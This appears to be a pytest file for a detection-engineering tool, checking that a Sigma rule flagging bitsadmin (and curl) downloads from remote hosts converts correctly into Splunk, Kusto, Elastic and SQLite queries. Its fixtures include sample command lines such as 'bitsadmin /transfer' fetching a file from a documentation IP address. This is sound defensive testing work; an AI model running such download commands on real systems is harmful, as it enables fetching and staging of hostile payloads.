"""Rules for other systems: every target says what the rule says, in the log where its process starts are."""

import sqlite3
from collections.abc import Callable

import polars as pl
import pytest

from longtail.detections.matching import Matcher, rows_of
from longtail.detections.sigma import parsed
from longtail.executions.schema import PROCESS_EVENT
from longtail.outputs.rules_converted import CATEGORY, TARGETS, Converter

RULE = """
title: Fetches
id: 11e5c0de-0000-4000-8000-000000000002
status: test
level: high
logsource: {category: process_creation, product: windows}
detection:
    program:
        - Image|endswith: '\\bitsadmin.exe'
        - OriginalFileName: bitsadmin.exe
    remote:
        CommandLine|contains: ['http://', '\\\\\\\\']
    writable:
        CommandLine|contains|windash: ' -transfer'
    lawful:
        ParentImage: 'C:\\Agent\\Up*.exe'
    agent:
        ParentImage: agent.exe
    condition: program and remote and writable and not (lawful or agent)
"""

LOG = {
    "splunk": ('source="WinEventLog:Microsoft-Windows-Sysmon/Operational"', "EventCode=1", "Image="),
    "kusto": ("DeviceProcessEvents", "FolderPath", "ProcessCommandLine"),
    "lucene": ("event.category:process", "process.executable", "process.command_line"),
    "eql": ('event.category:"process"', "process.executable", "process.command_line"),
    "esql": ('event.category=="process"', "process.executable", "process.command_line"),
    "sqlite": (f"FROM {CATEGORY}", "Image LIKE", "CommandLine LIKE"),
}


@pytest.fixture(scope="module")
def converter() -> Callable[[str], Converter]:
    made: dict[str, Converter] = {}
    return lambda name: made.setdefault(name, Converter(name))


@pytest.mark.parametrize("target", TARGETS)
def test_each_target_asks_its_own_log_for_its_own_fields(converter: Callable[[str], Converter], target: str) -> None:
    found = converter(target).converted(RULE)
    assert found.query is not None, found.reason
    assert [part for part in LOG[target] if part not in found.query] == []
    assert "bitsadmin.exe" in found.query and "http://" in found.query.replace("\\", "")
    assert found.query.endswith("\n") and found.query.count("\n") < 4


@pytest.mark.parametrize("target", TARGETS)
def test_rules_for_linux_are_converted_as_well(converter: Callable[[str], Converter], target: str) -> None:
    told = RULE.replace("windows", "linux").replace("\\bitsadmin.exe", "/curl").replace("-transfer", "-o")
    found = converter(target).converted(told)
    assert found.query is not None, found.reason
    assert ("WinEventLog" not in found.query and "ParentImage" not in found.query) or target in ("splunk", "sqlite")


def test_what_a_target_cannot_say_is_a_reason(converter: Callable[[str], Converter]) -> None:
    for text in (RULE.replace("Image|endswith", "Image|gibberish"), "title: [", ""):
        found = converter("kusto").converted(text)
        assert not (found.query or "").strip()
    assert converter("kusto").converted(RULE.replace("Image|endswith", "Image|gibberish")).reason


LINES = (
    "bitsadmin /transfer n http://203.0.113.9/a c:\\a",
    "BITSADMIN -TRANSFER n HTTP://203.0.113.9/a c:\\a",
    "bitsadmin /transfer n \\\\203.0.113.9\\a c:\\a",
    "bitsadmin /list http://203.0.113.9/a",
    "bitsadmin /transfer n c:\\b c:\\a",
    "",
)
IMAGES = ("C:\\Windows\\System32\\bitsadmin.exe", "c:\\windows\\BITSADMIN.EXE", "C:\\bitsadmin.exe.txt")
PARENTS = ("C:\\Agent\\Update.exe", "C:\\agent\\UPDATE.EXE", "C:\\Agent\\Other.exe", "AGENT.exe", "")


def test_the_query_for_sqlite_and_our_matcher_agree(converter: Callable[[str], Converter]) -> None:
    rows = [(image, line, parent) for image in IMAGES for line in LINES for parent in PARENTS]
    columns = ["image", "command_line", "parent_image"]
    starts = pl.DataFrame(rows, schema=columns, orient="row").select(
        pl.col(name) if name in columns else pl.lit(None, kind).alias(name) for name, kind in PROCESS_EVENT.items()
    )
    (hits,) = Matcher(parsed(RULE, "rule").rules).hits(rows_of(starts))
    database = sqlite3.connect(":memory:")
    database.execute(f"create table {CATEGORY} (n, Image, CommandLine, ParentImage, OriginalFileName)")
    database.executemany(f"insert into {CATEGORY} values (?, ?, ?, ?, null)", [(n, *row) for n, row in enumerate(rows)])
    query = converter("sqlite").converted(RULE).query or ""
    assert [row[0] for row in database.execute(query)] == hits.tolist()
    assert 0 < len(hits) < len(rows)
